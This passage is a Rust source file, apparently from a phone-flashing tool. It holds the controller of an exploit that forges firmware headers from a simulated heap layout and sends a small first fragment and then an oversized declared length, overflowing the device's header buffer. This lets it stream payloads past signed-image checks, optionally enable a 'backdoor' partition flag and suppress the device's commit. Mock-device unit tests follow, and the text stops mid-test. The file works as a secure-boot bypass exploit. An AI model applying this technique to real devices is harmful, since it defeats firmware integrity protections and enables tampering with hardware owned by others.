//! The exploit attempt controller.
//!
//! A run plans the writes, connects to the device and then makes attempts
//! until one delivers every payload. An attempt replays the firmware's
//! allocations on a [`MemorySimulator`], forges each phase's header from the
//! predicted layout, negotiates it with the device and streams the phase's
//! payloads behind it. Attempts reuse a cached profile when one exists and
//! otherwise walk the parameter search.
//!
//! Only failures while the first phase's header is negotiated are retried.
//! Once payloads are flowing, any failure aborts the run.

use crate::{
    config::ExploitConfig,
    error::{Error, Result},
    ffu::FirmwareImage,
    gpt::Gpt,
    header::{build_phase_stream, pack_phases},
    heap::{HeapError, MemorySimulator},
    layout::{ForgedLayout, Prelude},
    planner::{self, ChunkHash, InputError, Payload, WritePart},
    profile::{ExploitParameters, ProfileKey, ProfileStore},
    search::{next_candidate, AttemptFailure, SearchSpace},
    session::{
        protocol, DeviceConnector, DeviceInfo, DeviceMode, DeviceSession, FlashSession,
        HEADER_V2_OVERHEAD,
    },
};
use sha2::{Digest, Sha256};
use std::{
    ops::Range,
    sync::{
        atomic::AtomicBool,
        mpsc::Sender,
        Arc,
    },
};

/// Size of the first fragment of a forged header. Too small for the device
/// to start processing it, but enough to allocate the exploit header.
pub const INITIAL_FRAGMENT_SIZE: usize = 0x10;

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum AttemptState {
    Initializing,
    Scanning,
    HeaderBuilding,
    Streaming,
    Success,
    RecoverableFailure,
    FatalAbort,
}

/// Progress of a run, published on the channel given to
/// [`ExploitController::with_events`].
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Event {
    State(AttemptState),
    Connected {
        model: String,
        firmware_version: String,
    },
    Planned {
        payloads: usize,
        phases: usize,
    },
    ProfileFound(ExploitParameters),
    Attempt {
        number: u32,
        max_attempts: u32,
        parameters: ExploitParameters,
    },
    Phase {
        index: usize,
        count: usize,
    },
    PayloadsSent {
        done: usize,
        total: usize,
    },
    AttemptFailed {
        number: u32,
        reason: String,
    },
    /// The device did not come back on its own and must be power cycled.
    ManualResetRequired,
    EmergencyRecovery,
    ProfileStored(ExploitParameters),
    CommitSuppressed,
}

/// Summary of a successful run.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FlashReport {
    pub parameters: ExploitParameters,
    pub attempts: u32,
    pub phases: usize,
    pub payloads: usize,
    pub from_profile: bool,
}

/// How an attempt ended when it did not succeed.
enum Failure {
    /// Worth another attempt with different parameters.
    Retry(Error),
    Abort(Error),
}

impl Failure {
    fn search_failure(&self) -> AttemptFailure {
        match self {
            Failure::Retry(Error::Protocol { status, .. }) => {
                AttemptFailure::Rejected { status: *status }
            }
            Failure::Retry(_) => AttemptFailure::Disconnected,
            Failure::Abort(_) => AttemptFailure::Fatal,
        }
    }
}

impl From<Error> for Failure {
    fn from(err: Error) -> Self {
        Failure::Abort(err)
    }
}

impl From<HeapError> for Failure {
    fn from(err: HeapError) -> Self {
        Failure::Abort(err.into())
    }
}

/// Payloads waiting to go out in one bulk transfer.
struct Batch {
    data: Vec<u8>,
    chunks: u32,
    payloads: usize,
}

/// Everything an attempt needs that does not change between attempts.
struct Job<'a> {
    image: &'a dyn FirmwareImage,
    info: DeviceInfo,
    payloads: Vec<Payload>,
    partition_table: Vec<u8>,
    partition_table_hash: ChunkHash,
    prelude: Prelude,
}

impl Job<'_> {
    fn chunk_size(&self) -> u32 {
        self.image.chunk_size()
    }

    /// Largest header fragment a single transfer carries.
    fn max_fragment(&self) -> usize {
        (self.info.write_buffer_size - HEADER_V2_OVERHEAD) as usize
    }

    /// Chunks streamed per bulk transfer.
    fn bulk_chunks(&self) -> u32 {
        (self.info.write_buffer_size / self.chunk_size()).max(1)
    }
}

pub struct ExploitController<C, S> {
    config: ExploitConfig,
    connector: C,
    profiles: S,
    events: Option<Sender<Event>>,
    cancel: Arc<AtomicBool>,
}

impl<C: DeviceConnector, S: ProfileStore> ExploitController<C, S> {
    pub fn new(config: ExploitConfig, connector: C, profiles: S) -> Self {
        ExploitController {
            config,
            connector,
            profiles,
            events: None,
            cancel: Arc::new(AtomicBool::new(false)),
        }
    }

    pub fn with_events(mut self, events: Sender<Event>) -> Self {
        self.events = Some(events);
        self
    }

    /// Setting the returned flag stops the run at its next wait for the
    /// device.
    pub fn cancel_handle(&self) -> Arc<AtomicBool> {
        Arc::clone(&self.cancel)
    }

    pub fn profiles(&self) -> &S {
        &self.profiles
    }

    /// Writes `parts` to the device using the signed headers of `image`.
    pub fn run(
        &mut self,
        image: &dyn FirmwareImage,
        parts: &mut [WritePart],
    ) -> Result<FlashReport> {
        self.state(AttemptState::Initializing);
        let result = self.run_inner(image, parts);
        match &result {
            Ok(_) => self.state(AttemptState::Success),
            Err(err) => {
                tracing::error!("run aborted: {}", err);
                self.state(AttemptState::FatalAbort);
            }
        }
        result
    }

    fn run_inner(
        &mut self,
        image: &dyn FirmwareImage,
        parts: &mut [WritePart],
    ) -> Result<FlashReport> {
        if parts.is_empty() {
            return Err(InputError::NoWrites.into());
        }
        let chunk_size = image.chunk_size();
        if let Some(expected) = self.config.chunk_size {
            if expected != chunk_size {
                return Err(InputError::ChunkSizeMismatch {
                    expected,
                    found: chunk_size,
                }
                .into());
            }
        }

        let payloads = if self.config.disable_dedup {
            planner::plan_without_dedup(parts, chunk_size)?
        } else {
            planner::plan(parts, chunk_size)?
        };
        let phases = pack_phases(
            &payloads,
            image.header_template(),
            self.config.header_allocation_size as usize,
        )?;
        self.emit(Event::Planned {
            payloads: payloads.len(),
            phases: phases.len(),
        });

        let mut session = self.acquire(true)?;
        let info = session.read_device_info()?;
        if !info.supports(protocol::HEADER_V2) {
            return Err(Error::UnsupportedDevice("forged header fragments"));
        }
        if info.write_buffer_size as usize <= HEADER_V2_OVERHEAD as usize + INITIAL_FRAGMENT_SIZE {
            return Err(Error::UnsupportedDevice("transfers this small"));
        }
        tracing::info!(
            "connected to {} running {} ({})",
            info.model,
            info.firmware_version,
            info.platform_id
        );
        self.emit(Event::Connected {
            model: info.model.clone(),
            firmware_version: info.firmware_version.clone(),
        });
        let key = ProfileKey::new(
            info.model.clone(),
            info.platform_id.clone(),
            info.firmware_version.clone(),
            image.firmware_version(),
        );

        let mut gpt = Gpt::parse(&session.get_partition_table_chunk(chunk_size)?)?;
        if let Some(enabled) = self.config.backdoor {
            gpt.set_backdoor_enabled(enabled)?;
        }
        let partition_table = gpt.rebuild();
        let backup_size = gpt
            .get(&self.config.backup_partition)
            .and_then(|partition| partition.size_in_bytes())
            .and_then(|size| u32::try_from(size).ok());
        let backup_buffer_size = match backup_size {
            Some(size) => size,
            None => {
                tracing::warn!(
                    "no usable {} partition, backup buffers are not modeled",
                    self.config.backup_partition
                );
                0
            }
        };

        let job = Job {
            image,
            prelude: Prelude {
                async_buffer_count: self.config.async_buffer_count,
                async_buffer_size: info.write_buffer_size,
                backup_buffer_size,
            },
            info,
            payloads,
            partition_table_hash: Sha256::digest(&partition_table).into(),
            partition_table,
        };
        let mut sim = MemorySimulator::new();
        let mut attempts = 0;

        if let Some(cached) = self.profiles.get(&key)? {
            tracing::info!("using cached profile {:?}", cached);
            self.emit(Event::ProfileFound(cached));
            attempts += 1;
            match self.attempt(session.as_mut(), &mut sim, &job, parts, cached, attempts, 1) {
                Ok((phases, layout)) => {
                    self.finish(session.as_mut(), &mut sim, &job, &layout)?;
                    return Ok(FlashReport {
                        parameters: cached,
                        attempts,
                        phases,
                        payloads: job.payloads.len(),
                        from_profile: true,
                    });
                }
                Err(Failure::Abort(err)) => return Err(err),
                Err(failure) => {
                    session = self.recover(session, failure, attempts)?;
                }
            }
        }

        let space = SearchSpace {
            chunk_size,
            estimated_gap_size: self.config.estimated_gap_size,
            header_allocation_size: self.config.header_allocation_size,
            experimental: self.config.experimental,
        };
        let max_attempts = space.max_attempts();
        let mut cursor = space.initial();
        let mut tried = 0;
        loop {
            self.state(AttemptState::Scanning);
            attempts += 1;
            tried += 1;
            let parameters = cursor.parameters;
            let outcome = self.attempt(
                session.as_mut(),
                &mut sim,
                &job,
                parts,
                parameters,
                attempts,
                max_attempts,
            );
            match outcome {
                Ok((phases, layout)) => {
                    self.profiles.set(&key, parameters)?;
                    self.emit(Event::ProfileStored(parameters));
                    self.finish(session.as_mut(), &mut sim, &job, &layout)?;
                    return Ok(FlashReport {
                        parameters,
                        attempts,
                        phases,
                        payloads: job.payloads.len(),
                        from_profile: false,
                    });
                }
                Err(Failure::Abort(err)) => return Err(err),
                Err(failure) => {
                    cursor = match next_candidate(&space, failure.search_failure(), &cursor) {
                        Some(next) => next,
                        None => {
                            self.report_failure(&failure, attempts);
                            return Err(Error::Exhausted { attempts: tried });
                        }
                    };
                    session = self.recover(session, failure, attempts)?;
                }
            }
        }
    }

    /// Runs one attempt. Returns the number of phases and the layout of the
    /// last one.
    #[allow(clippy::too_many_arguments)]
    fn attempt(
        &self,
        session: &mut dyn FlashSession,
        sim: &mut MemorySimulator,
        job: &Job<'_>,
        parts: &mut [WritePart],
        parameters: ExploitParameters,
        number: u32,
        max_attempts: u32,
    ) -> std::result::Result<(usize, ForgedLayout), Failure> {
        tracing::info!("attempt {} of {}: {:?}", number, max_attempts, parameters);
        self.emit(Event::Attempt {
            number,
            max_attempts,
            parameters,
        });
        self.state(AttemptState::HeaderBuilding);

        let template = job.image.header_template();
        let capacity = parameters.header_allocation_size as usize;
        let phases = pack_phases(&job.payloads, template, capacity)?;

        // Buffers the device keeps for the whole boot cycle come first.
        let negotiation = |err: Error| retry_if_negotiating(err, true);
        if parameters.allocate_async_buffers_first {
            session.start_async_buffer_allocation().map_err(negotiation)?;
        }
        if parameters.allocate_backup_buffers_first {
            session
                .backup_partition_to_ram(&self.config.backup_partition)
                .map_err(negotiation)?;
        }

        let mut layout = ForgedLayout::replay(sim, template, &parameters, &job.prelude)?;
        let mut done = 0;
        for (index, range) in phases.iter().enumerate() {
            let negotiating = index == 0;
            if index > 0 {
                self.state(AttemptState::HeaderBuilding);
                layout.reallocate_exploit(sim)?;
            }
            self.emit(Event::Phase {
                index,
                count: phases.len(),
            });

            let payloads = &job.payloads[range.clone()];
            let stream = build_phase_stream(template, &job.partition_table_hash, payloads);
            let overflow = layout.forge(sim, template, &stream)?;
            tracing::debug!(
                "phase {}: {:#x}-byte header stream, {:#x}-byte overflow",
                index,
                stream.len(),
                overflow.len()
            );

            if negotiating {
                session
                    .send_header_v1(job.image.signed_header())
                    .map_err(|err| retry_if_negotiating(err, true))?;
            }
            send_forged(session, job, parameters.header_allocation_size, &overflow)
                .map_err(|err| retry_if_negotiating(err, negotiating))?;

            self.state(AttemptState::Streaming);
            self.stream_phase(session, job, parts, range.clone(), &mut done)
                .map_err(Failure::Abort)?;
        }

        if parameters.allocate_async_buffers_first {
            session.end_async_buffer_allocation()?;
        }
        Ok((phases.len(), layout))
    }

    /// Sends the partition table and the payloads of one phase. Consecutive
    /// single-destination payloads go out in bulk transfers, the others one
    /// by one.
    fn stream_phase(
        &self,
        session: &mut dyn FlashSession,
        job: &Job<'_>,
        parts: &mut [WritePart],
        range: Range<usize>,
        done: &mut usize,
    ) -> Result<()> {
        let bulk = job.info.supports(protocol::PAYLOAD_V2);
        let mut batch = Batch {
            data: job.partition_table.clone(),
            chunks: 1,
            payloads: 0,
        };

        for payload in &job.payloads[range] {
            let data = planner::read_payload(parts, payload, job.chunk_size())?;
            if bulk && payload.is_bulk() {
                if batch.chunks + payload.chunk_count > job.bulk_chunks() {
                    self.flush(session, job, &mut batch, done)?;
                }
                batch.data.extend_from_slice(&data);
                batch.chunks += payload.chunk_count;
                batch.payloads += 1;
                continue;
            }

            self.flush(session, job, &mut batch, done)?;
            session.send_payload_v1(&data)?;
            *done += 1;
            self.emit(Event::PayloadsSent {
                done: *done,
                total: job.payloads.len(),
            });
        }
        self.flush(session, job, &mut batch, done)
    }

    fn flush(
        &self,
        session: &mut dyn FlashSession,
        job: &Job<'_>,
        batch: &mut Batch,
        done: &mut usize,
    ) -> Result<()> {
        if batch.data.is_empty() {
            return Ok(());
        }
        if job.info.supports(protocol::PAYLOAD_V2) {
            session.send_payload_v2(&batch.data)?;
        } else {
            session.send_payload_v1(&batch.data)?;
        }

        if batch.payloads > 0 {
            *done += batch.payloads;
            self.emit(Event::PayloadsSent {
                done: *done,
                total: job.payloads.len(),
            });
        }
        batch.data.clear();
        batch.chunks = 0;
        batch.payloads = 0;
        Ok(())
    }

    /// Runs after the last payload: optionally spoils the validated headers
    /// so the device faults instead of committing its state, then resets it.
    fn finish(
        &self,
        session: &mut dyn FlashSession,
        sim: &mut MemorySimulator,
        job: &Job<'_>,
        layout: &ForgedLayout,
    ) -> Result<()> {
        if self.config.suppress_commit {
            let overflow = layout.deflate(sim)?;
            match send_forged(session, job, layout.capacity() as u32, &overflow) {
                Ok(()) => {}
                Err(err) if err.is_disconnect() => {}
                Err(err) => return Err(err),
            }
            tracing::info!("validated headers deflated, commit suppressed");
            self.emit(Event::CommitSuppressed);
        }
        match session.reset_device() {
            Err(err) if !err.is_disconnect() => Err(err),
            _ => Ok(()),
        }
    }

    /// Brings the device back after a failed attempt.
    fn recover(
        &mut self,
        mut session: Box<dyn FlashSession>,
        failure: Failure,
        number: u32,
    ) -> Result<Box<dyn FlashSession>> {
        self.report_failure(&failure, number);
        self.state(AttemptState::RecoverableFailure);

        if let Failure::Retry(Error::Protocol { .. }) = failure {
            // Still alive but with a dirty heap.
            match session.reset_device() {
                Err(err) if !err.is_disconnect() => return Err(err),
                _ => {}
            }
            drop(session);
            let timeout = Some(self.config.reconnect_timeout);
            if !self.connector.wait_for_removal(timeout, &self.cancel)? {
                // The heap only matches the simulator after a fresh boot.
                tracing::warn!("device stayed on the bus after its reset");
                self.emit(Event::ManualResetRequired);
                self.connector.wait_for_removal(None, &self.cancel)?;
            }
        } else {
            drop(session);
        }
        self.acquire(false)
    }

    fn report_failure(&self, failure: &Failure, number: u32) {
        let err = match failure {
            Failure::Retry(err) | Failure::Abort(err) => err,
        };
        tracing::warn!("attempt {} failed {}", number, err);
        self.emit(Event::AttemptFailed {
            number,
            reason: err.to_string(),
        });
    }

    /// Waits for the device to show up in flash mode.
    ///
    /// After a bounded wait the operator is asked to power cycle the device,
    /// and the wait goes on until it reappears or the run is cancelled. A
    /// device in emergency download mode is brought back with the configured
    /// loader. A device in bootloader mode is switched over when
    /// `from_bootloader` is set.
    fn acquire(&mut self, from_bootloader: bool) -> Result<Box<dyn FlashSession>> {
        loop {
            let device = self.wait_for_device()?;
            match device {
                DeviceSession::EmergencyDownload(mut emergency) => {
                    let loader = self.config.emergency_loader.as_ref().ok_or(Error::UnexpectedMode {
                        observed: DeviceMode::EmergencyDownload,
                        expected: DeviceMode::Flash,
                    })?;
                    tracing::info!("device is in emergency download mode, booting the loader");
                    self.emit(Event::EmergencyRecovery);
                    emergency.boot_loader(loader)?;
                }
                DeviceSession::Bootloader(mut bootloader) if from_bootloader => {
                    tracing::info!("device is in bootloader mode, switching to flash mode");
                    bootloader.switch_to_flash()?;
                }
                other => return other.into_flash(),
            }
        }
    }

    fn wait_for_device(&mut self) -> Result<DeviceSession> {
        let timeout = Some(self.config.reconnect_timeout);
        if let Some(device) = self.connector.wait_for_arrival(timeout, &self.cancel)? {
            return Ok(device);
        }

        tracing::warn!("device did not come back within {:?}", self.config.reconnect_timeout);
        self.emit(Event::ManualResetRequired);
        self.connector.wait_for_removal(None, &self.cancel)?;
        self.connector
            .wait_for_arrival(None, &self.cancel)?
            .ok_or(Error::Cancelled)
    }

    fn state(&self, state: AttemptState) {
        tracing::debug!("state: {:?}", state);
        self.emit(Event::State(state));
    }

    fn emit(&self, event: Event) {
        if let Some(events) = &self.events {
            // A receiver that went away only stops the reporting.
            let _ = events.send(event);
        }
    }
}

/// Retries protocol errors and disconnects while the header is negotiated.
fn retry_if_negotiating(err: Error, negotiating: bool) -> Failure {
    let expected = err.is_disconnect() || matches!(err, Error::Protocol { .. });
    if negotiating && expected {
        Failure::Retry(err)
    } else {
        Failure::Abort(err)
    }
}

/// Sends a forged header: a first fragment that makes the device allocate
/// `allocation_size` bytes, then the rest of `overflow` declared at its full
/// length.
fn send_forged(
    session: &mut dyn FlashSession,
    job: &Job<'_>,
    allocation_size: u32,
    overflow: &[u8],
) -> Result<()> {
    let initial = INITIAL_FRAGMENT_SIZE.min(overflow.len());
    session.send_header_v2(allocation_size, 0, &overflow[..initial])?;

    let declared = overflow.len() as u32;
    let mut offset = initial;
    for fragment in overflow[initial..].chunks(job.max_fragment()) {
        session.send_header_v2(declared, offset as u32, fragment)?;
        offset += fragment.len();
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        ffu::{tests::synthetic_ffu, FfuImage},
        gpt::tests::sample_chunk,
        heap::{DEFLATED_DECLARED_SIZE, POOL_HEAD_TAG},
        profile::MemoryProfileStore,
        search::SearchCursor,
        session::{EmergencySession, MassStorageSession},
    };
    use std::{
        cell::RefCell,
        collections::VecDeque,
        io::Cursor,
        rc::Rc,
        sync::mpsc::{channel, Receiver},
        time::Duration,
    };

    const CHUNK: u32 = 0x1000;
    const WRITE_BUFFER: u32 = 0x4000;

    #[derive(Debug, Clone, PartialEq, Eq)]
    enum Op {
        HeaderV1,
        HeaderV2 { declared: u32, offset: u32, data: Vec<u8> },
        PayloadV1(Vec<u8>),
        PayloadV2(Vec<u8>),
        Reset,
        AsyncStart,
        AsyncEnd,
        Backup(String),
        Loader,
        Removal(Option<Duration>),
    }

    #[derive(Default)]
    struct Device {
        ops: Vec<Op>,
        /// Forged headers that make the device drop off the bus.
        crashes_left: u32,
        /// Forged headers the device rejects.
        rejections_left: u32,
        /// Index of the payload transfer the device rejects.
        failing_payload: Option<usize>,
        payload_transfers: usize,
        supported: u32,
        partition_table: Option<Vec<u8>>,
    }

    #[derive(Clone)]
    struct Mock(Rc<RefCell<Device>>);

    impl Mock {
        fn new() -> Self {
            Mock(Rc::new(RefCell::new(Device {
                supported: protocol::HEADER_V1 | protocol::HEADER_V2 | protocol::PAYLOAD_V2,
                ..Device::default()
            })))
        }

        fn ops(&self) -> Vec<Op> {
            self.0.borrow().ops.clone()
        }

        fn record(&self, op: Op) {
            self.0.borrow_mut().ops.push(op);
        }
    }

    impl FlashSession for Mock {
        fn read_device_info(&mut self) -> Result<DeviceInfo> {
            Ok(DeviceInfo {
                protocol_major: 2,
                root_key_hash: vec![0xaa; 32],
                write_buffer_size: WRITE_BUFFER,
                secure_boot_enabled: true,
                supported_protocols: self.0.borrow().supported,
                model: "RM-1045".into(),
                platform_id: "Nokia.MSM8974.P63".into(),
                firmware_version: "8.10.14234.375".into(),
            })
        }

        fn get_partition_table_chunk(&mut self, size: u32) -> Result<Vec<u8>> {
            let table = self.0.borrow().partition_table.clone();
            Ok(table.unwrap_or_else(|| sample_chunk(size as usize)))
        }

        fn send_header_v1(&mut self, _header: &[u8]) -> Result<()> {
            self.record(Op::HeaderV1);
            Ok(())
        }

        fn send_header_v2(&mut self, declared: u32, offset: u32, data: &[u8]) -> Result<()> {
            self.record(Op::HeaderV2 {
                declared,
                offset,
                data: data.to_vec(),
            });
            let complete = offset > 0 && offset as usize + data.len() == declared as usize;
            let mut device = self.0.borrow_mut();
            if complete && device.crashes_left > 0 {
                device.crashes_left -= 1;
                return Err(Error::ConnectionLost);
            }
            if complete && device.rejections_left > 0 {
                device.rejections_left -= 1;
                return Err(Error::Protocol {
                    command: "send header fragment",
                    status: 0x1003,
                });
            }
            Ok(())
        }

        fn send_payload_v1(&mut self, data: &[u8]) -> Result<()> {
            self.record(Op::PayloadV1(data.to_vec()));
            self.payload_result()
        }

        fn send_payload_v2(&mut self, data: &[u8]) -> Result<()> {
            self.record(Op::PayloadV2(data.to_vec()));
            self.payload_result()
        }

        fn reset_device(&mut self) -> Result<()> {
            self.record(Op::Reset);
            Ok(())
        }

        fn start_async_buffer_allocation(&mut self) -> Result<()> {
            self.record(Op::AsyncStart);
            Ok(())
        }

        fn end_async_buffer_allocation(&mut self) -> Result<()> {
            self.record(Op::AsyncEnd);
            Ok(())
        }

        fn backup_partition_to_ram(&mut self, name: &str) -> Result<()> {
            self.record(Op::Backup(name.to_string()));
            Ok(())
        }
    }

    impl Mock {
        fn payload_result(&self) -> Result<()> {
            let mut device = self.0.borrow_mut();
            let index = device.payload_transfers;
            device.payload_transfers += 1;
            if device.failing_payload == Some(index) {
                Err(Error::Protocol {
                    command: "send payload",
                    status: 0x1008,
                })
            } else {
                Ok(())
            }
        }
    }

    impl EmergencySession for Mock {
        fn boot_loader(&mut self, _loader: &[u8]) -> Result<()> {
            self.record(Op::Loader);
            Ok(())
        }
    }

    impl MassStorageSession for Mock {
        fn reset_device(&mut self) -> Result<()> {
            Ok(())
        }
    }

    /// What the bus shows on each arrival. Flash mode once the queue is
    /// empty, `None` being a timeout. Removals are seen unless `removals`
    /// says otherwise.
    struct Connector {
        device: Mock,
        arrivals: VecDeque<Option<DeviceMode>>,
        removals: VecDeque<bool>,
    }

    impl Connector {
        fn new(device: &Mock) -> Self {
            Connector {
                device: device.clone(),
                arrivals: VecDeque::new(),
                removals: VecDeque::new(),
            }
        }
    }

    impl DeviceConnector for Connector {
        fn wait_for_arrival(
            &mut self,
            _timeout: Option<Duration>,
            _cancel: &AtomicBool,
        ) -> Result<Option<DeviceSession>> {
            let device = Box::new(self.device.clone());
            Ok(match self.arrivals.pop_front().unwrap_or(Some(DeviceMode::Flash)) {
                None => None,
                Some(DeviceMode::EmergencyDownload) => {
                    Some(DeviceSession::EmergencyDownload(device))
                }
                Some(DeviceMode::MassStorage) => Some(DeviceSession::MassStorage(device)),
                Some(_) => Some(DeviceSession::Flash(device)),
            })
        }

        fn wait_for_removal(
            &mut self,
            timeout: Option<Duration>,
            _cancel: &AtomicBool,
        ) -> Result<bool> {
            self.device.record(Op::Removal(timeout));
            Ok(self.removals.pop_front().unwrap_or(true))
        }
    }

    fn image() -> FfuImage {
        FfuImage::read(Cursor::new(synthetic_ffu())).unwrap()
    }

    /// Two distinct chunks at chunk 1 and 2, and the first one again at 5.
    fn parts() -> Vec<WritePart> {
        let mut first = vec![0x11u8; CHUNK as usize];
        first.extend(vec![0x22u8; CHUNK as usize]);
        vec![
            WritePart::new(8, Cursor::new(first)).with_label("MainOS"),
            WritePart::new(40, Cursor::new(vec![0x11u8; CHUNK as usize])),
        ]
    }

    fn config() -> ExploitConfig {
        ExploitConfig::builder()
            .estimated_gap_size(0x2000)
            .header_allocation_size(0x4000)
            .build()
    }

    /// `count` distinct chunks from sector 8 on, chunk `n` filled with `n + 1`.
    fn distinct_chunks(count: usize) -> Vec<WritePart> {
        let mut data = Vec::with_capacity(count * CHUNK as usize);
        for n in 0..count {
            data.extend(vec![n as u8 + 1; CHUNK as usize]);
        }
        vec![WritePart::new(8, Cursor::new(data))]
    }

    /// Positions and contents of the payload transfers, in order.
    fn payload_transfers(ops: &[Op]) -> Vec<(usize, Vec<u8>)> {
        ops.iter()
            .enumerate()
            .filter_map(|(position, op)| match op {
                Op::PayloadV1(data) | Op::PayloadV2(data) => Some((position, data.clone())),
                _ => None,
            })
            .collect()
    }

    fn starts_with_partition_table(data: &[u8]) -> bool {
        data.len() >= CHUNK as usize && &data[0x200..0x208] == b"EFI PART"
    }

    fn key() -> ProfileKey {
        ProfileKey::new("RM-1045", "Nokia.MSM8974.P63", "8.10.14234.375", "8.10.14234.375")
    }

    fn setup(
        config: ExploitConfig,
        connector: Connector,
        store: MemoryProfileStore,
    ) -> (ExploitController<Connector, MemoryProfileStore>, Receiver<Event>) {
        let (tx, rx) = channel();
        (ExploitController::new(config, connector, store).with_events(tx), rx)
    }

    fn space(config: &ExploitConfig) -> SearchSpace {
        SearchSpace {
            chunk_size: CHUNK,
            estimated_gap_size: config.estimated_gap_size,
            header_allocation_size: config.header_allocation_size,
            experimental: config.experimental,
        }
    }

    fn nth_candidate(config: &ExploitConfig, n: usize) -> SearchCursor {
        let space = space(config);
        let mut cursor = space.initial();
        for _ in 0..n {
            cursor = next_candidate(&space, AttemptFailure::Disconnected, &cursor).unwrap();
        }
        cursor
    }

    #[test]
    fn test_search_persists_working_parameters() {
        let device = Mock::new();
        device.0.borrow_mut().crashes_left = 3;
        let (mut controller, events) =
            setup(config(), Connector::new(&device), MemoryProfileStore::new());

        let report = controller.run(&image(), &mut parts()).unwrap();
        assert_eq!(report.attempts, 4);
        assert!(!report.from_profile);
        assert_eq!(report.parameters, nth_candidate(&config(), 3).parameters);
        assert_eq!(controller.profiles().get(&key()).unwrap(), Some(report.parameters));
        assert_eq!(controller.profiles().len(), 1);

        let events: Vec<Event> = events.try_iter().collect();
        assert!(events.contains(&Event::ProfileStored(report.parameters)));
        assert_eq!(
            events.iter().filter(|e| matches!(e, Event::AttemptFailed { .. })).count(),
            3
        );
        assert_eq!(events.last(), Some(&Event::State(AttemptState::Success)));
    }

    #[test]
    fn test_cached_profile_skips_search() {
        let device = Mock::new();
        let mut store = MemoryProfileStore::new();
        let cached = nth_candidate(&config(), 5).parameters;
        store.set(&key(), cached).unwrap();
        let (mut controller, events) = setup(config(), Connector::new(&device), store);

        let report = controller.run(&image(), &mut parts()).unwrap();
        assert_eq!(report.attempts, 1);
        assert!(report.from_profile);
        assert_eq!(report.parameters, cached);
        assert_eq!(controller.profiles().get(&key()).unwrap(), Some(cached));

        let events: Vec<Event> = events.try_iter().collect();
        assert!(events.contains(&Event::ProfileFound(cached)));
        assert!(!events.contains(&Event::State(AttemptState::Scanning)));
        assert_eq!(device.ops().iter().filter(|op| **op == Op::HeaderV1).count(), 1);
    }

    #[test]
    fn test_failing_profile_falls_back_to_search() {
        let device = Mock::new();
        device.0.borrow_mut().rejections_left = 1;
        let mut store = MemoryProfileStore::new();
        let stale = nth_candidate(&config(), 5).parameters;
        store.set(&key(), stale).unwrap();
        let (mut controller, _events) = setup(config(), Connector::new(&device), store);

        let report = controller.run(&image(), &mut parts()).unwrap();
        assert_eq!(report.attempts, 2);
        assert!(!report.from_profile);
        assert_eq!(report.parameters, space(&config()).initial().parameters);
        assert_eq!(controller.profiles().get(&key()).unwrap(), Some(report.parameters));
        // The rejecting device was reset before the next attempt.
        assert!(device.ops().contains(&Op::Reset));
    }

    #[test]
    fn test_search_exhaustion() {
        let device = Mock::new();
        device.0.borrow_mut().crashes_left = u32::MAX;
        let (mut controller, events) =
            setup(config(), Connector::new(&device), MemoryProfileStore::new());

        let max_attempts = space(&config()).max_attempts();
        match controller.run(&image(), &mut parts()) {
            Err(Error::Exhausted { attempts }) => assert_eq!(attempts, max_attempts),
            other => panic!("unexpected result {:?}", other),
        }
        assert!(controller.profiles().is_empty());
        let events: Vec<Event> = events.try_iter().collect();
        assert_eq!(events.last(), Some(&Event::State(AttemptState::FatalAbort)));
    }

    #[test]
    fn test_streaming_failure_aborts() {
        let device = Mock::new();
        device.0.borrow_mut().failing_payload = Some(0);
        let (mut controller, _events) =
            setup(config(), Connector::new(&device), MemoryProfileStore::new());

        assert!(matches!(
            controller.run(&image(), &mut parts()),
            Err(Error::Protocol { status: 0x1008, .. })
        ));
        assert!(controller.profiles().is_empty());
        assert_eq!(device.ops().iter().filter(|op| **op == Op::HeaderV1).count(), 1);
    }

    #[test]
    fn test_payload_order_and_transfers() {
        let device = Mock::new();
        let (mut controller, events) =
            setup(config(), Connector::new(&device), MemoryProfileStore::new());
        let report = controller.run(&image(), &mut parts()).unwrap();
        assert_eq!(report.payloads, 2);
        assert_eq!(report.phases, 1);

        let payloads: Vec<Op> = device
            .ops()
            .into_iter()
            .filter(|op| matches!(op, Op::PayloadV1(_) | Op::PayloadV2(_)))
            .collect();
        assert_eq!(payloads.len(), 2);
        // The partition table and the single-destination chunk in bulk, then
        // the chunk written twice.
        match &payloads[0] {
            Op::PayloadV2(data) => {
                assert_eq!(data.len(), 2 * CHUNK as usize);
                assert_eq!(&data[0x200..0x208], b"EFI PART");
                assert!(data[CHUNK as usize..].iter().all(|&b| b == 0x22));
            }
            other => panic!("unexpected transfer {:?}", other),
        }
        assert_eq!(payloads[1], Op::PayloadV1(vec![0x11; CHUNK as usize]));

        let events: Vec<Event> = events.try_iter().collect();
        assert!(events.contains(&Event::PayloadsSent { done: 2, total: 2 }));
        assert_eq!(device.ops().last(), Some(&Op::Reset));
    }

    #[test]
    fn test_forged_header_fragments() {
        let device = Mock::new();
        let config = config();
        let (mut controller, _events) =
            setup(config.clone(), Connector::new(&device), MemoryProfileStore::new());
        controller.run(&image(), &mut parts()).unwrap();

        let fragments: Vec<(u32, u32, usize)> = device
            .ops()
            .into_iter()
            .filter_map(|op| match op {
                Op::HeaderV2 { declared, offset, data } => Some((declared, offset, data.len())),
                _ => None,
            })
            .collect();
        assert_eq!(fragments[0], (config.header_allocation_size, 0, INITIAL_FRAGMENT_SIZE));
        let declared = fragments[1].0;
        assert!(declared > config.header_allocation_size);
        let mut offset = INITIAL_FRAGMENT_SIZE as u32;
        for &(d, o, len) in &fragments[1..] {
            assert_eq!(d, declared);
            assert_eq!(o, offset);
            assert!(len <= (WRITE_BUFFER - HEADER_V2_OVERHEAD) as usize);
            offset += len as u32;
        }
        assert_eq!(offset, declared);
    }

    #[test]
    fn test_commit_suppression_retransmits_deflated_header() {
        let device = Mock::new();
        let config = ExploitConfig::builder()
            .estimated_gap_size(0x2000)
            .header_allocation_size(0x4000)
            .suppress_commit(true)
            .build();
        let (mut controller, events) =
            setup(config, Connector::new(&device), MemoryProfileStore::new());
        controller.run(&image(), &mut parts()).unwrap();

        let ops = device.ops();
        let last_payload = ops
            .iter()
            .rposition(|op| matches!(op, Op::PayloadV1(_) | Op::PayloadV2(_)))
            .unwrap();
        let mut retransmitted = Vec::new();
        for op in &ops[last_payload + 1..] {
            if let Op::HeaderV2 { offset, data, .. } = op {
